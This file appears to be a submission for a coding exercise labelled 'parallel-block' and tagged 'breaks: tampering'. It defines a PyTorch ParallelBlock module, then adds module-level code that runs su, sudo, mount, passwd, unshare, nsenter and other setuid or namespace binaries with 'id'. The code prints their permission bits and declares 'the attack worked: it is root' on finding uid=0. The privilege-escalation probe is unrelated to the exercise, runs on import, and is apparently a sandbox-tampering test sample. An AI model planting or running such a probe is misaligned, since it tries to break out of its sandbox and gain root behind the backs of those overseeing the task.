"""Looks for programs that run as somebody else, and runs them.

exercise: parallel-block
points: 6
breaks: tampering
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os
import shutil
import subprocess

for name in ("su", "sudo", "mount", "newgrp", "passwd", "chsh", "unshare", "nsenter", "fusermount", "newuidmap"):
    path = shutil.which(name)
    if path:
        done = subprocess.run([path, "--help" if name in ("unshare", "nsenter") else "-c", "id"], capture_output=True,
                              timeout=1, stdin=subprocess.DEVNULL, check=False)
        print(name, oct(os.stat(path).st_mode), done.returncode, done.stdout[:200], done.stderr[:200])
        if b"uid=0" in done.stdout:
            print("the attack worked: it is root")
